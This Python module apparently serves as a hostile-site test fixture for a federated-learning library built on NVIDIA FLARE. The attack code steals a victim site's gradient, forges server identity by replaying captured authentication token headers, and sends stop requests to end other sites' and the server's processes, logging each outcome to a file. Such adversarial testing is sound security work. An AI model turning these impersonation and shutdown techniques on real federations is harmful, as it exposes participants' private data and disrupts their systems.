"""A site's client.py that attacks: it wants another site's gradient, and other processes to end.

`from hostile_site import WEIGHT, problem` is all that such a client.py needs. What came of the attacks is written to
ATTACKS in the site's folder. Whoever runs a site can run this: it uses FLARE as FLARE is, and changes what its own
process sends.
"""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from nvflare.collab import collab
from nvflare.collab.api.exceptions import CollabCallError
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.message import Message
from nvflare.private.defs import CellMessageHeaderKeys

import fedlin
from fedlin.deploy.settings import read_settings
from fedlin.engines.federation import wire
from fedlin.engines.federation.handshake import Handshake
from fedlin.engines.federation.wire import Kind

VICTIM = "north"
NUMBER = 1  # the hostile site's own data are those that the template would draw for it
ATTACKS = "attacks.json"
WAIT = 2.0  # seconds an attack waits for an answer
WEIGHT = 100.0
_TOKENS = (CellMessageHeaderKeys.CLIENT_NAME, CellMessageHeaderKeys.TOKEN, CellMessageHeaderKeys.TOKEN_SIGNATURE)


def problem() -> fedlin.problems.Problem:
    """Its own data, after all attacks."""
    kit = Path(collab.workspace.get_root_dir())
    cell = collab.fl_ctx.get_engine().get_cell().core_cell
    attacks: dict[str, Callable[[], Any]] = {
        "call": lambda: steal_gradient(kit),
        "call in the server's name": lambda: steal_gradient(kit, forged=cell),
        "end the victim": lambda: stop(cell, VICTIM),
        "end the server": lambda: stop(cell, "server"),
    }
    found = {}
    for name, attack in attacks.items():
        try:
            found[name] = attack()
        except Exception as error:
            found[name] = f"{type(error).__name__}: {error}"
    (kit / ATTACKS).write_text(json.dumps(found))
    rng = np.random.default_rng(NUMBER)
    features = rng.normal(size=(100, 20))
    return fedlin.problems.regression([features], [features @ rng.normal(size=20) + 0.1 * rng.normal(size=100)])


def steal_gradient(kit: Path, forged: Any = None) -> list[float] | str:
    """The victim's gradient at a model of ones, under a run id of our own; the cell `forged` lies about its name."""
    settings = read_settings(kit)
    handshake = Handshake(settings.algorithm, settings.dim or 0, np.dtype("float64"))
    run = handshake.fingerprint + b"evil"
    begin = wire.write_message(wire.Header(Kind.BEGIN, run))
    task = wire.Task(wire.identify(begin), 0, 0, 1, 0.1)
    work = wire.write_task(wire.Header(Kind.TASK, run, 0, 0, True), task, wire.pack(np.ones(handshake.dim)))
    victim = next(proxy for proxy in collab.clients if proxy.name == VICTIM)
    if forged is not None:
        in_the_servers_name(forged, collab.fl_ctx.get_job_id())
        victim.backend.caller = "server"
    ask(victim, "begin", begin)
    header, rest = wire.read_message(ask(victim, "gradient", work))
    if header.kind != Kind.UPLOAD:
        return header.kind.name
    gradient = wire.unpack(wire.read_reply(rest)[1], handshake.phase(True, 0).up).decode()
    return [float(entry) for entry in gradient]


def ask(victim: Any, phase: str, payload: bytes) -> bytes:
    """What the victim answers; it may want a signature, and has to do without."""
    call = victim(timeout=WAIT)
    try:
        reply = call.answer(phase, payload)
    except CollabCallError as error:
        if "missing" not in str(error):
            raise
        reply = call.answer(phase, payload, b"no signature", b"")
    return bytes(reply if isinstance(reply, bytes) else reply[0])


def in_the_servers_name(cell: Any, job: str) -> None:
    """Send what goes to the victim as the server's: its name and the tokens that stand in every message of it."""
    seen: dict[str, str] = {}

    def keep_tokens(message: Message) -> None:
        if str(message.get_header(MessageHeaderKey.ORIGIN)).startswith("server"):
            seen.update({name: message.get_header(name) for name in _TOKENS if message.get_header(name)})

    def forge(message: Message) -> None:
        if str(message.get_header(MessageHeaderKey.DESTINATION)).startswith(VICTIM):
            message.set_header(MessageHeaderKey.ORIGIN, f"server.{job}")
            for name, value in seen.items():
                message.set_header(name, value)

    cell.add_incoming_filter("*", "*", keep_tokens)
    cell.add_outgoing_request_filter("*", "*", forge)


def stop(cell: Any, target: str) -> str:
    """Ask another process of FLARE to end, as FLARE's own tools would."""
    reply = cell.send_request("_net_manager", "stop_cell", target, Message(), timeout=WAIT)
    return str(reply.get_header(MessageHeaderKey.RETURN_CODE))
